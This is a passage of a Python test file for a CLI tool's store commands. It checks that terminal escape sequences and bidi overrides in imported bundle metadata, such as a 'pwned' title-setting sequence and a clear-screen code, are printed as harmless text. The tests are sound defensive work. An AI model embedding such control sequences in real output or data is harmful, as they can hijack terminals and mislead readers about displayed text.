        "note: runs/bad left out of the default runs: its stored config is invalid (unknown config key 'variants')"
    ) in err
    assert "unknown config key" not in err.split("Error: ")[1] and "model.pt of checkpoint" in err
    assert not w.sentinel_ran.exists()


# ------------------------------------------------------------------------------------------------ printing
def test_printable_escapes_what_could_drive_a_terminal():
    from morfic_cli.errors import printable

    assert printable("a\x1b]0;pwned\x07b") == "a\\x1b]0;pwned\\x07b"
    assert printable("x\u202eyz\x9b2J") == "x\\u202eyz\\x9b2J"  # a bidi override, a C1 CSI
    assert printable("line\nnext\t", keep="\n") == "line\nnext\\t"
    assert printable("caf\u00e9 [bold]ok[/]") == "caf\u00e9 [bold]ok[/]"  # printable text is kept as it is


def test_store_show_and_ls_print_a_bundles_escape_codes_as_text(use_world, run_cli):
    w = use_world
    src = Store(w.tmp / "src")
    src.set_ref(
        "reports/evil",
        src.put_manifest("report", meta={"title": "\x1b]0;pwned\x07\x1b[2J", "note": "a\u202eb"}, files={"r.md": b"x"}),
    )
    bundle = src.export_tar(["reports/evil"], w.tmp / "e.tar").path
    assert run_cli("store", "import", str(bundle), "--store", str(w.root))[0] == 0
    code, out, err = run_cli("store", "show", "reports/evil", "--store", str(w.root))
    assert code == 0 and "\x1b" not in out + err and "\u202e" not in out
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in out and "a\\u202eb" in out
    code, out, _ = run_cli("store", "show", "reports/evil", "-f", "json", "--store", str(w.root))
    assert code == 0 and out.isascii() and "\x1b" not in out  # JSON escapes: the data is the bundle's, unchanged
    assert __import__("json").loads(out)["meta"] == {"title": "\x1b]0;pwned\x07\x1b[2J", "note": "a\u202eb"}
    code, out, _ = run_cli("store", "ls", "-f", "json", "--store", str(w.root))
    assert code == 0 and "\x1b" not in out and "\u202e" not in out
